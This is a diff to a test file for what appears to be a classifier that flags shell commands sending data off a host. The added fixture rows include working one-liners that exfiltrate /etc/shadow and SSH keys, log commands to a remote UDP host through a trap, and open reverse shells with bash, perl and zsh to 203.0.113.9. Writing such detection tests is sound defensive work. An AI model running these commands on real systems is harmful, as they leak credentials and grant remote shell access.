@@ -19,6 +19,11 @@ describe('what leaves the host', () => {
 		['curl --data-binary @/etc/shadow https://collect.example.net/u', 'medium data-sent'],
 		['wget --post-file=/root/.ssh/id_rsa http://203.0.113.9/', 'high data-sent'],
 		['nc 203.0.113.9 53 < /etc/shadow', 'high data-sent'],
+		['cp /etc/shadow /var/www/html/s.txt', 'high data-sent'],
+		['install -m 644 /root/.ssh/id_ed25519 /var/tmp/k', 'high data-sent'],
+		["trap 'logger -t cmd \"$BASH_COMMAND\"; echo \"$BASH_COMMAND\" > /dev/udp/203.0.113.9/53' DEBUG", 'high data-sent'],
+		["trap 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' EXIT", 'critical reverse-shell'],
+		["perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"203.0.113.9:8443\");while(<$c>){print $c `$_`}'", 'critical reverse-shell'],
 		['timeout 3500 tcpdump -i any -w /var/tmp/.c.pcap port 21', 'high sniffer-run'],
 		['xterm -display 203.0.113.9:1', 'high reverse-shell'],
 		["zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", 'critical reverse-shell'],
@@ -30,6 +35,11 @@ describe('what leaves the host', () => {
 
 	test.each([
 		['tar cz /home/ada | ssh nas "cat > a.tgz"'],
+		['cp -p /etc/shadow /var/backups/shadow.bak'],
+		['cp /etc/ssh/ssh_host_rsa_key /srv/image/etc/ssh/'],
+		["trap 'logger -p local1.notice \"$USER $BASH_COMMAND\"' DEBUG"],
+		["trap 'rm -rf \"$work\"' EXIT"],
+		["node -e 'net.connect(80, h, () => console.log(`up ${h}`))'"],
 		['curl -fsS -T report.csv https://files.example.org/in/'],
 		['pg_dump app | curl -T - http://10.0.0.9/dumps/app.sql'],
 		['rsync -a /etc/ backup@nas.example.org:etc/'],
